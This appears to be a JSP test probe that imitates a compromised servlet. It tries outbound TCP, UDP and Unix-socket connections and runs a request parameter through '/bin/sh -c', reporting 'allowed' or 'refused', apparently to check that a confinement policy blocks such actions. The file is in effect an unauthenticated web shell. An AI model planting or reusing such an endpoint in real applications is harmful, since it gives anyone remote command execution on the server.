<%-- SPDX-License-Identifier: GPL-2.0-only --%>
<%@ page contentType="text/plain" import="java.io.*,java.net.*,java.nio.*,java.nio.channels.*,java.nio.charset.*" %><%--
What a servlet that was taken over tries: /act.jsp?act=ACT&to=WHERE&port=N. "allowed" and what it got, or "refused" and why.
--%><%!
	/* The first line that comes. */
	String first(InputStream from) throws IOException {
		String line = new BufferedReader(new InputStreamReader(from)).readLine();
		return line == null ? "" : line;
	}

	String tcp(String host, int port) throws IOException {
		try (Socket socket = new Socket()) {
			socket.connect(new InetSocketAddress(host, port), 10000);
			socket.setSoTimeout(10000);
			return first(socket.getInputStream());
		}
	}

	String udp(String host, int port) throws IOException {
		try (DatagramSocket socket = new DatagramSocket()) {
			socket.send(new DatagramPacket(new byte[1], 1, InetAddress.getByName(host), port));
			return "";
		}
	}

	String unix(String path) throws IOException {
		try (SocketChannel channel = SocketChannel.open(StandardProtocolFamily.UNIX)) {
			channel.connect(UnixDomainSocketAddress.of(path));
			return first(Channels.newInputStream(channel));
		}
	}

	/* A shell's words: the taken-over servlet starts programs. */
	String shell(String words) throws Exception {
		Process process = new ProcessBuilder("/bin/sh", "-c", words).redirectErrorStream(true).start();
		String line = first(process.getInputStream());
		if (process.waitFor() != 0)
			throw new IOException(line);
		return line;
	}
%><%
	String to = request.getParameter("to"), port = request.getParameter("port");
	int number = port == null ? 0 : Integer.parseInt(port);

	try {
		String act = request.getParameter("act");
		String got = act.equals("tcp") ? tcp(to, number) : act.equals("udp") ? udp(to, number) :
			     act.equals("unix") ? unix(to) : shell(to);

		out.print("allowed " + got);
	} catch (Exception error) {
		out.print("refused " + error.getMessage());
	}
%>
